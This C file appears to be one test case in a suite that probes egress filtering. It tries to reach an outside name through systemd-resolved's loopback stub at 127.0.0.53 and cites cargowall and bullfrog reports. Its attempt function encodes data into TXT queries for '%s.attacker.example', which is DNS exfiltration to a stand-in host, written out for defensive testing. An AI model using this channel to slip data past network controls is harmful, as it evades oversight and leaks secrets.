// SPDX-License-Identifier: Apache-2.0
/* The stub of systemd-resolved, on the loopback of the host. */
#include "../case.h"

static void attempt(const struct target *t, struct attempt *a)
{
	dns_tell(t, a, SOCK_DGRAM, "127.0.0.53", 53, "%s.attacker.example", DNS_TXT);
	dns_tell(t, a, SOCK_STREAM, "127.0.0.53", 53, "%s.attacker.example", DNS_TXT);
}

CASE(dns_stub) = { .title = "systemd-resolved's stub 127.0.0.53",
		   .source = "field A11: cargowall, bullfrog #120",
		   .group = "resolver",
		   .families = FOUR,
		   .settings = EVERYWHERE,
		   .attempt = attempt };
